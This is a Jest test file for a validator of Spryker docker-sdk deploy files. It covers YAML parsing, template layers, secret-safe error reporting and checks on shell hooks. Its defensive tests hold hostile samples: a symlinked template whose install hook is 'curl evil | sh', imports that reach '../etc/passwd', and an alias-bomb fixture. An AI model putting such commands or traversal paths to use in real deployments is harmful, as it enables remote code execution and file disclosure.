/**
 * The deploy file as docker-sdk reads it: what docker-sdk accepts is accepted (accepted/), bad input
 * is refused with a code and never echoed (broken/ and generated files).
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { preflight, readDeployFile, sprykerPipelinePropsFromDeployFile } from '../../lib/config/deploy-file';
import { installRecipes } from '../../lib/config/preflight/rules/hooks';

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'deploy-files');
const accepted = (name: string, file = 'deploy.shop-staging.yml') => path.join(FIXTURES, 'accepted', name, file);
const broken = (code: string, file = 'deploy.shop-staging.yml') => path.join(FIXTURES, 'broken', code, file);
const codes = (file: string) => preflight(readDeployFile(file)).map((f) => f.code);

let tmp: string;
beforeEach(() => (tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'deploy-file-'))));
afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));
/** A deploy file in a fresh directory. */
const write = (content: string | Buffer, name = 'deploy.shop-staging.yml') => {
  const file = path.join(tmp, name);
  fs.writeFileSync(file, content);
  return file;
};
const MINIMAL = fs.readFileSync(path.join(FIXTURES, 'deploy.shop-staging.yml'), 'utf8');

describe('what docker-sdk accepts is accepted', () => {
  test('application: static builds no ECS service', () => {
    const config = readDeployFile(accepted('static'));
    expect(config.applications.map((a) => [a.key, a.application])).toContainEqual(['storybook', 'static']);
    expect(preflight(config)).toEqual([]);
    const props = sprykerPipelinePropsFromDeployFile(accepted('static'), { cluster: 'c' });
    expect(props.services.map((s) => s.application)).toEqual(['yves', 'backoffice']);
  });

  test("a quoted multi-line value closed at its key's indentation reads as symfony/yaml and PyYAML read it", () => {
    const config = readDeployFile(accepted('quoted-value'));
    expect(config.loadProblems).toEqual([]);
    const env = (config.data.image as { environment: Record<string, string> }).environment;
    // PyYAML's value of the same file (python3 -c 'yaml.safe_load(...)'), byte for byte.
    expect(env.SPRYKER_PAAS_SERVICES).toBe('{ "database": {"host": "db.internal", "port": 3306}, "it\'s": "quoted" }');
    expect(env.SPRYKER_PLAIN).toBe('after');
    expect(codes(accepted('quoted-value'))).toEqual([]);
  });

  test('the same value still fails where the quote is really never closed', () => {
    const file = write(MINIMAL.replace('    tag: spryker/php:8.3\n', "    tag: spryker/php:8.3\n    x: 'open\n"));
    expect(codes(file)).toContain('SDF101');
  });

  test('Dynamic Multistore: an endpoint with store: EU (the region) and no stores list', () => {
    expect(codes(accepted('dms-store-region', 'deploy.dms-production.yml'))).toEqual([]);
    // Outside Dynamic Multistore mode a region is no store.
    const file = write(fs.readFileSync(accepted('dms-store-region', 'deploy.dms-production.yml'), 'utf8').replace('SPRYKER_DYNAMIC_STORE_MODE: true', 'SPRYKER_DYNAMIC_STORE_MODE: false'), 'deploy.dms-production.yml');
    expect(codes(file)).toContain('SDF406');
  });

  test('a template on both layers is imported from both, the project layer winning; placeholder filters apply', () => {
    const config = readDeployFile(accepted('layers'));
    expect(config.loadProblems).toEqual([]);
    expect(config.files.map((f) => path.relative(path.dirname(accepted('layers')), f))).toEqual([
      'deploy.shop-staging.yml',
      'config/deploy-templates/shop.deploy.template.yml',
      'config/deploy-templates/store.deploy.template.yml',
      'docker/generator/deploy-file-generator/templates/shop.deploy.template.yml',
    ]);
    expect((config.data.image as { environment: Record<string, string> }).environment).toMatchObject({
      SPRYKER_PROJECT_LAYER: 'yes',
      SPRYKER_BASE_LAYER: 'yes',
      SPRYKER_BOTH: 'project',
    });
    expect(config.data.namespace).toBe('shop-staging');
    // %store|upper% in a key of the nested import, with the parameter of its parent.
    expect(config.regions[0].stores.map((s) => [s.name, s.brokerNamespace])).toEqual([
      ['DE', 'de_queue'],
      ['AT', 'at_queue'],
    ]);
    expect(codes(accepted('layers'))).toEqual([]);
  });

  test('a top-level import on no layer is skipped with a warning, as docker-sdk skips it', () => {
    const findings = preflight(readDeployFile(broken('SDF110')));
    expect(findings).toEqual([expect.objectContaining({ code: 'SDF110', severity: 'warning', location: expect.objectContaining({ line: 3 }) })]);
    expect(findings[0].message).toMatch(/'deploy\.nowhere\.template\.yml' is on no template layer .*; skipped, as docker-sdk skips it/);
  });
});

describe('bad input: refused with a code, never echoed', () => {
  const SECRET = 'Pa55-w0rd-never-printed';

  test.each([
    ['an unclosed quote swallowing the rest', `    password: '${SECRET}\n  "x": }'\n`],
    ['a stray flow end after a secret', `    password: ${SECRET} ]\n`],
    ['a bad escape next to a secret', `    password: "${SECRET}\\q"\n`],
    ['an unresolved tag named after a secret', `    password: !${SECRET} x\n`],
    ['a tab in the indentation', `\tpassword: ${SECRET}\n`],
  ])('no finding quotes the file (%s)', (_, bad) => {
    const file = write(MINIMAL.replace('services:\n    broker:\n        engine: rabbitmq\n', `services:\n    broker:\n        engine: rabbitmq\n${bad}`));
    const findings = preflight(readDeployFile(file));
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.every((f) => f.code === 'SDF101' && f.location?.line !== undefined && f.location.col !== undefined)).toBe(true);
    expect(JSON.stringify(findings)).not.toContain(SECRET);
    expect(JSON.stringify(findings)).not.toContain(SECRET.slice(0, 8));
  });

  test('imports that leave the project are refused and not read', () => {
    const config = readDeployFile(broken('SDF107'));
    expect(config.files).toEqual([broken('SDF107')]);
    const findings = preflight(config);
    expect(findings.map((f) => [f.code, f.location?.line])).toEqual([
      ['SDF107', 4],
      ['SDF107', 5],
    ]);
    expect(findings[0].message).toMatch(/template '(\.\.\/)+etc\/passwd' leaves the project and the template layers; it is not read/);
    expect(findings[1].message).toMatch(/template '\/etc\/hostname' leaves the project/);
  });

  test('a template that is a symbolic link out of the layer is refused', () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'outside-'));
    try {
      fs.writeFileSync(path.join(outside, 'hook.yml'), 'image:\n    environment:\n        SPRYKER_HOOK_INSTALL: "curl evil | sh"\n');
      fs.mkdirSync(path.join(tmp, 'config', 'deploy-templates'), { recursive: true });
      fs.symlinkSync(path.join(outside, 'hook.yml'), path.join(tmp, 'config', 'deploy-templates', 'hook.yml'));
      const config = readDeployFile(write(`imports:\n    hook.yml:\n${MINIMAL}`));
      expect(preflight(config).map((f) => f.code)).toEqual(['SDF107']);
      expect(JSON.stringify(config.data)).not.toContain('evil');
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  test('a YAML alias bomb is a finding, fast, not a crash', () => {
    const start = Date.now();
    const findings = preflight(readDeployFile(broken('SDF108')));
    expect(Date.now() - start).toBeLessThan(2000);
    expect(findings).toEqual([expect.objectContaining({ code: 'SDF108', severity: 'critical', message: expect.stringMatching(/aliases expand to more than 1000 copies/) })]);
  });

  test('UTF-16 (with or without a byte order mark) and Latin-1 files are refused as not UTF-8', () => {
    expect(preflight(readDeployFile(broken('SDF109')))).toEqual([
      expect.objectContaining({ code: 'SDF109', message: expect.stringMatching(/is not UTF-8 \(it looks like UTF-16\): docker-sdk reads UTF-8 only/) }),
    ]);
    expect(codes(write(Buffer.from(MINIMAL, 'utf16le')))).toEqual(['SDF109']);
    const latin1 = write(Buffer.from(MINIMAL.replace('namespace: shop', 'namespace: shöp'), 'latin1'));
    expect(preflight(readDeployFile(latin1))).toEqual([expect.objectContaining({ code: 'SDF109', message: expect.not.stringMatching(/UTF-16/) })]);
    // UTF-8 with a byte order mark is UTF-8.
    expect(codes(write(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(MINIMAL)])))).toEqual([]);
  });

  test('an unknown placeholder filter is refused as docker-sdk refuses it', () => {
    expect(preflight(readDeployFile(broken('SDF111')))[0].message).toMatch(/placeholder filter 'title' is not one of docker-sdk's \(upper, lower\)/);
  });

  test('an application without endpoints is refused, naming it', () => {
    expect(preflight(readDeployFile(broken('SDF411')))).toEqual([expect.objectContaining({ code: 'SDF411', path: 'groups.EU.applications.boffice', message: expect.stringMatching(/boffice of group EU has no endpoints/) })]);
  });

  test('backapi is not an application type docker-sdk has a template for', () => {
    const file = write(MINIMAL.replace('application: backoffice', 'application: backapi'));
    expect(codes(file)).toContain('SDF401');
  });

  test('a 1 MB file with large maps is checked in linear time', () => {
    const big = MINIMAL.replace('image:\n    tag: spryker/php:8.3\n    environment:\n', `image:\n    tag: spryker/php:8.3\n    environment:\n${Array.from({ length: 20000 }, (_, i) => `        FILLER_${i}: "value ${i} of the filler variables for size"\n`).join('')}`);
    const file = write(big);
    expect(fs.statSync(file).size).toBeGreaterThan(1_000_000);
    const start = Date.now();
    expect(codes(file)).toEqual([]);
    // Quadratic (yaml's uniqueKeys) took 15 s for this size; linear takes well under one.
    expect(Date.now() - start).toBeLessThan(3000);
  });

  test('a key twice in a large map is still found, with its place', () => {
    const file = write(MINIMAL.replace('        SPRYKER_HOOK_INSTALL:', '        SPRYKER_X: a\n        SPRYKER_X: b\n        SPRYKER_HOOK_INSTALL:'));
    expect(preflight(readDeployFile(file))).toEqual([expect.objectContaining({ code: 'SDF102', message: "key 'SPRYKER_X' appears twice in one map", location: expect.objectContaining({ line: 10, col: 9 }) })]);
  });
});

describe('hooks', () => {
  test("the shell's own syntax check names the hook", () => {
    expect(preflight(readDeployFile(broken('SDF206')))).toEqual([
      expect.objectContaining({ code: 'SDF206', path: 'image.environment.SPRYKER_HOOK_INSTALL', message: expect.stringMatching(/^SPRYKER_HOOK_INSTALL .* is not valid shell \(sh -n: line 1: Syntax error: Unterminated quoted string\)/) }),
    ]);
  });

  test('a trailing backslash and a successful exit would skip the scheduler command', () => {
    const findings = preflight(readDeployFile(broken('SDF207')));
    expect(findings.map((f) => [f.code, f.path])).toEqual([
      ['SDF207', 'image.environment.SPRYKER_HOOK_BEFORE_DEPLOY'],
      ['SDF207', 'image.environment.SPRYKER_HOOK_INSTALL'],
    ]);
    expect(findings[0].message).toMatch(/ends with a backslash.*vendor\/bin\/console scheduler:suspend/);
    expect(findings[1].message).toMatch(/exits successfully before its end.*scheduler:setup/);
  });

  test.each([
    ['if [ -f x ]; then exit 1; fi; vendor/bin/install -r EU/production', []],
    ['vendor/bin/install -r EU/production || exit 1', []],
    ['vendor/bin/install -r EU/production && exit', ['SDF207']],
    ['vendor/bin/install -r EU/production\nexit $?', ['SDF207']],
    ['vendor/bin/install -r EU/production \\\\\\\\', []],
  ])('exit and backslashes: %j', (hook, expected) => {
    const file = write(MINIMAL.replace('"vendor/bin/install -r EU/production --no-ansi -vvv"', JSON.stringify(hook)));
    expect(codes(file)).toEqual(expected);
  });

  test('the install recipe must exist in the Spryker project: critical for install, a warning for the other hooks', () => {
    expect(preflight(readDeployFile(broken('SDF208')))).toEqual([
      expect.objectContaining({
        code: 'SDF208',
        severity: 'critical',
        message: expect.stringMatching(/^SPRYKER_HOOK_INSTALL \(image\.environment\.SPRYKER_HOOK_INSTALL\) runs install recipe 'EU\/production', but config\/install\/EU\/production\.yml does not exist/),
        suggestion: expect.stringContaining('(EU/destructive, EU/pre-deploy)'),
      }),
    ]);
    expect(preflight(readDeployFile(broken('SDF209')))).toEqual([expect.objectContaining({ code: 'SDF209', severity: 'warning', message: expect.stringMatching(/SPRYKER_HOOK_BEFORE_DEPLOY .*'EU\/pre-deploy'/) })]);
  });

  test("SCCOS's default hooks are checked too, when the file sets none", () => {
    fs.writeFileSync(path.join(tmp, 'composer.json'), '{}');
    const file = write(MINIMAL.replace(/ {8}SPRYKER_HOOK_[A-Z_]+: .*\n/g, ''));
    const findings = preflight(readDeployFile(file));
    expect(findings.map((f) => [f.code, f.message.split(' runs ')[0]])).toEqual([
      ['SDF208', "SPRYKER_HOOK_INSTALL (SCCOS's default SPRYKER_HOOK_INSTALL)"],
      ['SDF209', "SPRYKER_HOOK_BEFORE_DEPLOY (SCCOS's default SPRYKER_HOOK_BEFORE_DEPLOY)"],
      ['SDF209', "SPRYKER_HOOK_DESTRUCTIVE_INSTALL (SCCOS's default SPRYKER_HOOK_DESTRUCTIVE_INSTALL)"],
    ]);
  });

  test('outside a Spryker project recipes are not checked', () => {
    expect(readDeployFile(path.join(FIXTURES, 'deploy.shop-staging.yml')).projectRoot).toBeUndefined();
    expect(readDeployFile(broken('SDF208')).projectRoot).toBe(path.dirname(broken('SDF208')));
  });

  test.each([
    ['vendor/bin/install -r EU/production --no-ansi -vvv', ['EU/production']],
    ['vendor/bin/install --recipe=EU/production && vendor/bin/install --recipe "EU/extra"', ['EU/production', 'EU/extra']],
    ['APPLICATION_STORE=DE ./vendor/bin/install -rEU/pre-deploy', ['EU/pre-deploy']],
    ['vendor/bin/console cache:clear -r x', []],
  ])('recipes of %j', (hook, recipes) => expect(installRecipes(hook)).toEqual(recipes));
});
